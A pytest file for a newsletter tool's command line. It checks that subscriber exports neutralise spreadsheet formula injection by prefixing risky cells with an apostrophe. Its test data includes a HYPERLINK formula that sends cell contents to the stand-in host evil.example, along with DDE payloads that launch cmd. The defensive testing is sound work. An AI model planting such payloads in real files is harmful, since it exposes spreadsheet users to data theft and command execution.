"""`subscribers export` never hands a spreadsheet a formula (issue 15, item 4): a real
import and export through the CLI, read back as a spreadsheet would read the cells."""
from __future__ import annotations

import csv
import io
import os
import subprocess
from pathlib import Path

from .conftest import NEWSLETTER

HOSTILE = [
    ("=cmd@example.com", "=HYPERLINK(\"https://evil.example/?\"&A2,\"Click\")"),
    ("plus@example.com", "+1-202-555-0100"),
    ("minus@example.com", "-2+3+cmd|' /C calc'!A0"),
    ("at@example.com", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("wide@example.com", "＝1+1"),
    ("fine@example.com", "林薇 = Lin Wei, 100% -ish"),
]


def cli(root: Path, *args: str) -> subprocess.CompletedProcess:
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "COLUMNS": "200"}
    return subprocess.run([*NEWSLETTER, *args], cwd=root, capture_output=True,
                          text=True, timeout=120, env=env)


def test_cells_that_would_be_formulas_are_exported_as_text(project: Path) -> None:
    rows = "".join(f'{email},"{name.replace(chr(34), chr(34) * 2)}",en,hearts\n' for email, name in HOSTILE)
    (project / "people.csv").write_text("email,name,language,sponsor\n" + rows, encoding="utf-8")
    imported = cli(project, "subscribers", "import", "people.csv")
    assert imported.returncode == 0, imported.stderr
    exported = cli(project, "subscribers", "export", "--out", "out.csv")
    assert exported.returncode == 0, exported.stderr
    cells = {row["email"]: row for row in csv.DictReader(io.StringIO((project / "out.csv").read_text("utf-8-sig")))}
    assert cells["'=cmd@example.com"]["name"] == "'" + HOSTILE[0][1]
    for email, name in HOSTILE[1:]:
        expected = name if email.startswith("fine") else "'" + name
        assert cells[email]["name"] == expected
    for row in cells.values():
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), row
    to_screen = cli(project, "subscribers", "export")
    assert "'=HYPERLINK(" in to_screen.stdout and "\n=" not in to_screen.stdout
